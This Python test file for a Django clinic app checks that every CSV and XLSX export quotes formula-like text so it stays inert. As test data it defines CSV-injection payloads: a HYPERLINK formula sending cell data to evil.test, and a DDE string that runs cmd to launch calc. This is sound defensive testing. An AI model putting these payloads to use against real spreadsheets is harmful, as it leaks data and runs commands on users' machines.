"""No export hands a spreadsheet a formula: hostile names come out as inert text.

The walk covers every admin action that answers with a file, the report's export page,
the API's CSV and every ``export_*`` management command; a rule over the source makes
sure no other module writes CSV or XLSX around ``clinic.spreadsheets``.
"""

from __future__ import annotations

import csv
import datetime
import io
import re
from pathlib import Path

import openpyxl
import pytest
import time_machine
from django.core.management import call_command, get_commands
from django.test import Client
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook

from clinic.models import Role
from clinic.spreadsheets import (
    FORMULA_TRIGGERS,
    cell_from_spreadsheet,
    spreadsheet_cell,
    xlsx_append,
)
from clinic.tokens import api_token_issue
from programs.importexport import exercises_import, exercises_to_csv, rows_from_csv
from programs.models import Exercise
from tests.api.conftest import client_with_token
from tests.factories import ExerciseFactory
from tests.reports.test_reports_exports import NOW, history
from tests.test_architecture import ORDER

from .admin_actions import admin_actions

ROOT = Path(__file__).resolve().parents[2]
PATIENT = '=HYPERLINK("http://evil.test/?d="&A2,"Click")'
ASSIGNMENT = "@SUM(1+1)*cmd|' /C calc'!A0"
THERAPIST = "+1+cmd"
EXERCISE = "-2+3 stretch"
STEP = "\t=1+1"
HOSTILE = (PATIENT, ASSIGNMENT, THERAPIST, EXERCISE)
RANGE = {"start": "2026-03-01", "end": "2026-03-31"}


# The cell function ------------------------------------------------------------------------------


@pytest.mark.parametrize("text", [PATIENT, ASSIGNMENT, "+1", "-1", "\tx", "\rx", "'=x", "''@x"])
def test_text_a_spreadsheet_would_run_gets_a_quote(text):
    assert spreadsheet_cell(text) == "'" + text


@pytest.mark.parametrize("value", [-3, -2.5, 0, 7, None, datetime.date(2026, 3, 2), "Carol", ""])
def test_numbers_dates_and_plain_text_are_left_as_they_are(value):
    assert spreadsheet_cell(value) == value


@given(st.text())
def test_an_import_reads_back_exactly_the_text_that_was_exported(text):
    assert cell_from_spreadsheet(spreadsheet_cell(text)) == text
    assert not str(spreadsheet_cell(text)).startswith(FORMULA_TRIGGERS)


def test_xlsx_keeps_negative_numbers_numbers_and_text_text(tmp_path):
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("S")
    xlsx_append(sheet, [-3, 2.5, "=1+1", "plain"])
    workbook.save(tmp_path / "s.xlsx")
    cells = next(openpyxl.load_workbook(tmp_path / "s.xlsx").active.iter_rows())
    assert [cell.value for cell in cells] == [-3, 2.5, "'=1+1", "plain"]
    assert [cell.data_type for cell in cells] == ["n", "n", "s", "s"]


def test_no_module_writes_csv_or_xlsx_around_the_inert_writer():
    pattern = re.compile(r"csv\.(writer|DictWriter)\(|\bWorkbook\(")
    offenders = [
        str(path.relative_to(ROOT))
        for package in ("clinic", "patients", "programs")
        for path in (ROOT / package).rglob("*.py")
        if path.name != "spreadsheets.py" and pattern.search(path.read_text())
    ]
    assert offenders == [], f"write CSV and XLSX through clinic.spreadsheets: {offenders}"


# Every export ------------------------------------------------------------------------------------


@pytest.fixture
def hostile(alma, alice, carol):
    with time_machine.travel(NOW, tick=False):
        carol.first_name, carol.last_name = PATIENT, ""
        carol.save()
        assignment = history(carol)
        assignment.name = ASSIGNMENT
        assignment.therapist = alice.staff
        assignment.save()
        alice.full_name = THERAPIST
        alice.save()
        ExerciseFactory(clinic=alma.staff.clinic, name=EXERCISE, steps=[STEP], summary=PATIENT)
        yield


def cells_of(content: bytes, filename: str) -> list:
    if filename.endswith(".xlsx"):
        workbook = openpyxl.load_workbook(io.BytesIO(content))
        cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
        assert all(cell.data_type != "f" for cell in cells), "a formula cell"
        return [cell.value for cell in cells]
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]


def assert_inert(content: bytes, filename: str, where: str) -> None:
    values = cells_of(content, filename)
    live = [v for v in values if isinstance(v, str) and v.startswith(FORMULA_TRIGGERS)]
    assert not live, f"{where} writes live formulas: {live}"
    assert any(isinstance(v, str) and v.lstrip("'") in HOSTILE for v in values), (
        f"{where} holds none of the hostile names: the walk would prove nothing"
    )


def attachment(response) -> tuple[bytes, str] | None:
    disposition = response.get("Content-Disposition", "")
    match = re.search(r'filename="?([^";]+)', disposition)
    if response.status_code != 200 or not match or "attachment" not in disposition:
        return None
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return body, match[1]


SPREADSHEET = (".csv", ".xlsx")


@pytest.mark.usefixtures("hostile")
def test_every_admin_action_that_exports_a_spreadsheet_writes_hostile_names_inert(alma):
    client = Client()
    exported = []
    for action in admin_actions(alma):
        client.force_login(alma)  # an action may end the user's own sessions (2FA reset)
        with time_machine.travel(NOW, tick=False):
            response = client.post(
                action.changelist,
                {
                    "action": action.name,
                    "_selected_action": action.visible_ids(alma),
                    "index": "0",
                    **RANGE,
                },
            )
        file = attachment(response)
        if file and file[1].endswith(SPREADSHEET):
            assert_inert(*file, where=action.label)
            exported.append(action.label)
    assert {
        "reports.adherencereport.export_csv",
        "reports.adherencereport.export_xlsx",
        "programs.exercise.export_csv",
    } <= set(exported)


@pytest.mark.usefixtures("hostile")
@pytest.mark.parametrize("format", ["csv", "xlsx"])
@pytest.mark.parametrize("rows", ["patient", "week"])
def test_the_report_export_page_writes_hostile_names_inert(alice, format, rows):
    client = Client()
    client.force_login(alice)
    with time_machine.travel(NOW, tick=False):
        response = client.post(
            reverse("admin:reports_adherencereport_export"),
            {"format": format, "rows": rows, **RANGE},
        )
    assert_inert(*attachment(response), where=f"export page {format} {rows}")


@pytest.mark.usefixtures("hostile")
def test_the_apis_csv_writes_hostile_names_inert(alma):
    _token, key = api_token_issue(
        clinic=alma.staff.clinic, name="sync", role=Role.CLINIC_ADMIN, created_by=alma
    )
    with time_machine.travel(NOW, tick=False):
        response = client_with_token(key).get(
            "/api/v1/reports/adherence/", RANGE, HTTP_ACCEPT="text/csv"
        )
    assert_inert(*attachment(response), where="API CSV")


def run_export_adherence(tmp_path, format):
    output = tmp_path / f"adherence.{format}"
    call_command(
        "export_adherence",
        "--clinic=clinic-a",
        *(f"--{name}={value}" for name, value in RANGE.items()),
        f"--format={format}",
        f"--output={output}",
    )
    return output.read_bytes(), output.name


def run_export_exercises(tmp_path, format):
    output = io.StringIO()
    call_command("export_exercises", "--clinic=clinic-a", f"--format={format}", stdout=output)
    return output.getvalue().encode(), f"exercises.{format}"


EXPORT_COMMANDS = {
    "export_adherence": (run_export_adherence, ["csv", "xlsx"]),
    "export_exercises": (run_export_exercises, ["csv"]),
}


def test_every_export_command_is_walked():
    ours = {
        name
        for name, app in get_commands().items()
        if app.split(".")[0] in set(ORDER) - {"bench"}  # the shipped packages
    }
    assert {name for name in ours if "export" in name} == set(EXPORT_COMMANDS)


@pytest.mark.usefixtures("hostile")
@pytest.mark.parametrize(
    ("command", "format"),
    [(name, format) for name, (_run, formats) in EXPORT_COMMANDS.items() for format in formats],
)
def test_every_export_command_writes_hostile_names_inert(tmp_path, command, format):
    run, _formats = EXPORT_COMMANDS[command]
    with time_machine.travel(NOW, tick=False):
        assert_inert(*run(tmp_path, format), where=f"{command} --format={format}")


# The exercise CSV comes back as it went out ------------------------------------------------------


@pytest.mark.usefixtures("hostile")
def test_the_exercise_csv_round_trips_hostile_text_through_the_import(alma):
    clinic = alma.staff.clinic
    before = Exercise.objects.get(clinic=clinic, name=EXERCISE)
    text = exercises_to_csv(Exercise.objects.filter(clinic=clinic))
    assert f"'{EXERCISE}" in text
    exercises_import(clinic=clinic, rows=rows_from_csv(text))
    after = Exercise.objects.get(pk=before.pk)
    assert (after.name, after.summary, after.steps) == (EXERCISE, PATIENT, [STEP.strip()])
